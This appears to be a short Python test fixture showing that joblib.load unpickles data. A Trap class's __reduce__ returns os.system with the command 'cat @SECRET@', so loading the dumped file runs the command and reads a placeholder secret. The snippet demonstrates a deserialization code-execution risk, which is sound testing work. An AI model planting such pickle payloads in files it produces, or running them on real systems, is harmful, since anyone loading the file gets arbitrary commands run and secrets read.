# joblib.load unpickles.
# effect: run
# tree: scientific
import os
import tempfile
import joblib
class Trap:
    def __reduce__(self):
        return os.system, ("cat @SECRET@",)
path = tempfile.mktemp()
joblib.dump(Trap(), path)
joblib.load(path)
